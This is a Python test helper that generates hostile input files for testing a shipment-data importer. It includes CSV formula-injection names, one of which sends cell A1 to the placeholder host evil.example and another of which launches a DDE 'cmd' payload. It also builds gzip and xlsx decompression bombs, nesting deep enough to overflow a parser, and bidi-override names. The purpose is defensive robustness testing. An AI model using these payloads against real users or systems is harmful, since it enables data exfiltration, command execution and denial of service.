"""Hostile input files, written on demand (no binary blobs in the repository).

Each function writes one case into ``directory`` and returns the path written; the good rows
of a CSV case are shipments in the canonical layout, numbered so a test can tell which came
through. Used by tests/test_hostile_read.py (reading) and by the load-side tests.

    python tests/hostile.py DIR      # write every case into DIR
"""

from __future__ import annotations

import gzip
import io
import sys
import zipfile
from pathlib import Path

import openpyxl

HEADER = ["record_id", "date", "exporter_name", "exporter_country", "importer_name",
          "importer_country", "hs_code", "quantity", "value_usd"]


def shipment_row(i: int, exporter: str | None = None, importer: str | None = None) -> list[str]:
    """Shipment ``i`` of a clean file: record id ``H-<i>``, valid in every column."""
    return [f"H-{i:06d}", "2023-03-01", exporter or f"Exporter {i % 37} Trading Ltd", "CN",
            importer or f"OOO Importer {i % 11}", "RU", "854231", str(10 + i), str(1000 + i)]


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    return "".join(delimiter.join(row) + "\n" for row in [HEADER, *rows])


def _write(directory, name: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    path = Path(directory) / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


# -- CSV ------------------------------------------------------------------------------------------

def stray_quote(directory, rows: int = 1000, at_line: int = 120) -> Path:
    """A name opening with a quote that never closes, on physical line ``at_line``; the
    quote's partner is a stray quote ~880 lines further down (as in a leaked extract)."""
    body = [shipment_row(i) for i in range(rows)]
    body[at_line - 2][2] = '"Alpha Trade, Ltd'
    partner = min(at_line - 2 + 880, rows - 1)
    body[partner][2] = 'Omega 5" Drive Co'
    return _write(directory, "stray_quote.csv", _csv(body))


def endless_quoted_cell(directory, rows: int = 200, at_line: int = 50) -> Path:
    """A quote opened on ``at_line`` that nothing ever closes: the rest of the file is 'inside'."""
    body = [shipment_row(i) for i in range(rows)]
    body[at_line - 2][2] = '"Endless Exporter'
    return _write(directory, "endless_quote.csv", _csv(body))


def big_cell(directory, rows: int = 50, at_line: int = 10, size: int = 100_000) -> Path:
    """A ``size``-character name on line ``at_line``."""
    body = [shipment_row(i) for i in range(rows)]
    body[at_line - 2][2] = "X" * size
    return _write(directory, "big_cell.csv", _csv(body))


def crlf_lf_mix(directory, rows: int = 100) -> Path:
    """Line ends alternating CRLF, LF and a lone CR, and one quoted cell spanning two lines."""
    text = ",".join(HEADER) + "\r\n"
    ends = ["\r\n", "\n", "\r"]
    for i in range(rows):
        row = shipment_row(i)
        if i == 10:
            row[4] = '"OOO Importer\r\nSecond Line"'
        text += ",".join(row) + ends[i % 3]
    return _write(directory, "crlf_mix.csv", text)


def nul_bytes(directory, rows: int = 100, at_lines: tuple[int, ...] = (5, 60)) -> Path:
    """NUL characters inside a name on the given lines."""
    body = [shipment_row(i) for i in range(rows)]
    for line in at_lines:
        body[line - 2][2] = "Nul\x00Exporter"
    return _write(directory, "nul.csv", _csv(body))


def bad_byte(directory, rows: int = 30_000, at_line: int = 25_000) -> Path:
    """A UTF-8 file with one byte that is not UTF-8 on ``at_line`` (past the sniffed MiB when
    ``rows`` is large enough)."""
    text = _csv([shipment_row(i) for i in range(rows)]).encode()
    lines = text.split(b"\n")
    lines[at_line - 1] = lines[at_line - 1].replace(b"Exporter", b"Export\xffer", 1)
    return _write(directory, "bad_byte.csv", b"\n".join(lines))


def bom_cp1251(directory, rows: int = 50) -> Path:
    """A UTF-8 byte-order mark before cp1251 text (Russian names), as some exporters write."""
    body = [shipment_row(i, importer=f"ООО «Радиоком {i}»") for i in range(rows)]
    return _write(directory, "bom_cp1251.csv", b"\xef\xbb\xbf" + _csv(body, ";").encode("cp1251"))


def utf16_tab_text(directory, rows: int = 40) -> Path:
    """A spreadsheet's "Unicode text" export: UTF-16 with its byte-order mark, tab-separated,
    CRLF line ends, Russian names."""
    body = [shipment_row(i, importer=f"ООО «Радиоком {i}»") for i in range(rows)]
    return _write(directory, "unicode_text.txt", _csv(body, "\t").replace("\n", "\r\n"),
                  encoding="utf-16")


def wide_file(directory, rows: int = 20, extra_columns: int = 20_000) -> Path:
    """``extra_columns`` unknown columns beside the canonical ones (a pivoted vendor export)."""
    header = HEADER + [f"extra_{k}" for k in range(extra_columns)]
    lines = [header] + [shipment_row(i) + ["x"] * extra_columns for i in range(rows)]
    return _write(directory, "wide.csv", "".join(",".join(row) + "\n" for row in lines))


def deep_json_ftm(directory, depth: int = 200_000) -> Path:
    """FtM JSON lines: a good company between arrays nested ``depth`` deep (which overflow a
    recursive JSON parser) and a company whose name property nests as deep."""
    good = ('{"id": "co1", "schema": "Company", "properties": {"name": ["Alfa Trade"], '
            '"jurisdiction": ["kg"], "registrationNumber": ["1234567-3301-OOO"]}}')
    nested = "[" * depth + "]" * depth
    deep_name = ('{"id": "co2", "schema": "Company", "properties": {"name": '
                 + nested + "}}")
    return _write(directory, "deep.jsonl", "\n".join([nested, good, deep_name]) + "\n")


def long_hyphenated_name(directory, size: int = 40_000) -> Path:
    """One exporter name of ``size`` characters, a hyphenated word (quadratic for a naive
    regex), and one of 1,001 characters, over the name limit."""
    body = [shipment_row(i) for i in range(5)]
    body[1][2] = ("a" * (size - 1)) + "-"
    body[2][2] = "-".join(["Ala"] * 250)[:1001]
    return _write(directory, "long_name.csv", _csv(body))


def long_key_cells(directory, size: int = 5_000) -> Path:
    """Record id, exporter id, country and HS code cells of ``size`` characters, one per row
    (rows 1 to 4 of 8); the other rows are clean."""
    body = [shipment_row(i) for i in range(8)]
    body[1][0] = "H-" + "9" * size
    body[2][3] = "C" * size
    body[3][6] = "8" * size
    body[4][4] = "OOO " + "Ж" * size
    return _write(directory, "long_keys.csv", _csv(body))


def formula_names(directory) -> Path:
    """Names that a spreadsheet would run as formulas."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+7 Trading", "-Minus LLC", "\tTab Co"]
    body = [shipment_row(i, exporter=name) for i, name in enumerate(names)]
    return _write(directory, "formulas.csv",
                  _csv([[_quoted(v) for v in row] for row in body]))


def bidi_names(directory) -> Path:
    """Names with right-to-left overrides and other bidi controls hiding their true text."""
    names = ["Safe\u202eCo Ltd", "\u2067Hidden\u2069 Trading", "Normal\u200fName LLC"]
    body = [shipment_row(i, exporter=name) for i, name in enumerate(names)]
    return _write(directory, "bidi.csv", _csv(body))


def extra_key_columns(directory) -> Path:
    """A vendor export with extra columns named like the graph's own properties."""
    header = [*HEADER, "id", "names", "registry_names", "source_row"]
    rows = [[*shipment_row(i), f"V-{i}", "x;y", "z", str(i)] for i in range(20)]
    text = "".join(",".join(r) + "\n" for r in [header, *rows])
    return _write(directory, "extra_columns.csv", text)


def same_name_two_folders(directory, rows: int = 20, overlap: int = 10) -> tuple[Path, Path]:
    """``y2023/shipments.csv`` and ``y2024/shipments.csv`` sharing ``overlap`` record ids
    with different content."""
    first = [shipment_row(i) for i in range(rows)]
    second = [shipment_row(i) for i in range(rows - overlap, 2 * rows - overlap)]
    for row in second[:overlap]:
        row[7] = str(int(row[7]) * 3)  # same id, different quantity
    return (_write(directory, "y2023/shipments.csv", _csv(first)),
            _write(directory, "y2024/shipments.csv", _csv(second)))


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


# -- workbooks and compressed files ---------------------------------------------------------------

def xlsx_sheets(directory, per_sheet: int = 30) -> Path:
    """A workbook with sheets Q1 and Q2 (same header, ``per_sheet`` rows each), Notes (another
    header) and Empty (no rows)."""
    book = openpyxl.Workbook(write_only=True)
    for n, title in enumerate(("Q1", "Q2")):
        sheet = book.create_sheet(title)
        sheet.append(HEADER)
        for i in range(per_sheet):
            sheet.append(shipment_row(n * per_sheet + i))
    notes = book.create_sheet("Notes")
    notes.append(["note", "author"])
    notes.append(["checked", "me"])
    book.create_sheet("Empty")
    path = Path(directory) / "quarters.xlsx"
    book.save(path)
    return path


def xlsx_huge_dimension(directory, rows: int = 20) -> Path:
    """A small workbook whose sheet declares the whole grid (A1:XFD1048576) as its dimension."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for i in range(rows):
        sheet.append(shipment_row(i))
    buffer = io.BytesIO()
    book.save(buffer)
    return _rewrite_zip(Path(directory) / "huge_dimension.xlsx", buffer.getvalue(), {
        "xl/worksheets/sheet1.xml": lambda xml: _set_dimension(xml, "A1:XFD1048576")})


def xlsx_far_cell(directory, rows: int = 5) -> Path:
    """A workbook with a value in the grid's last cell (XFD1048576): a million-row gap and a
    16,384-cell row."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for i in range(rows):
        sheet.append(shipment_row(i))
    sheet.cell(row=1_048_576, column=16_384, value="far")
    path = Path(directory) / "far_cell.xlsx"
    book.save(path)
    return path


def xlsx_shared_string_bomb(directory, unpacked_mb: int = 64) -> Path:
    """A workbook whose shared-strings part unpacks to ``unpacked_mb`` MB from a few hundred KB."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(shipment_row(0))
    buffer = io.BytesIO()
    book.save(buffer)
    path = Path(directory) / "sst_bomb.xlsx"
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, src.read(item.filename))
        with out.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                         b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
            block = b"A" * (1 << 20)
            for _ in range(unpacked_mb):
                member.write(block)
            member.write(b"</t></si></sst>")
    return path


def gz_bomb(directory, unpacked_mb: int = 64, xlsx: bool = False) -> Path:
    """``bomb.csv.gz``: a header and one line of ``unpacked_mb`` MB of zeros; or, ``xlsx``,
    ``bomb.xlsx.gz``: a small workbook followed by that many MB of zeros."""
    path = Path(directory) / ("bomb.xlsx.gz" if xlsx else "bomb.csv.gz")
    head = _xlsx_bytes() if xlsx else (",".join(HEADER) + "\n").encode()
    block = b"0" * (1 << 20)
    with gzip.open(path, "wb", compresslevel=1) as out:
        out.write(head)
        for _ in range(unpacked_mb):
            out.write(block)
    return path


def _xlsx_bytes(rows: int = 3) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    for i in range(rows):
        book.active.append(shipment_row(i))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _set_dimension(xml: bytes, ref: str) -> bytes:
    start = xml.index(b"<dimension ref=\"") + len(b"<dimension ref=\"")
    end = xml.index(b"\"", start)
    return xml[:start] + ref.encode() + xml[end:]


def _rewrite_zip(path: Path, data: bytes, changes: dict) -> Path:
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename in changes:
                content = changes[item.filename](content)
            out.writestr(item, content)
    return path


CASES = (stray_quote, endless_quoted_cell, big_cell, crlf_lf_mix, nul_bytes, bad_byte, bom_cp1251,
         utf16_tab_text, wide_file, deep_json_ftm, long_hyphenated_name, long_key_cells,
         formula_names, bidi_names, extra_key_columns, same_name_two_folders, xlsx_sheets,
         xlsx_huge_dimension, xlsx_far_cell, xlsx_shared_string_bomb, gz_bomb)


def write_all(directory) -> list[Path]:
    """Every case into ``directory``."""
    Path(directory).mkdir(parents=True, exist_ok=True)
    paths: list[Path] = []
    for case in CASES:
        written = case(directory)
        paths += list(written) if isinstance(written, tuple) else [written]
    paths.append(gz_bomb(directory, xlsx=True))
    return paths


if __name__ == "__main__":
    for written_path in write_all(sys.argv[1] if len(sys.argv) > 1 else "hostile"):
        print(written_path)
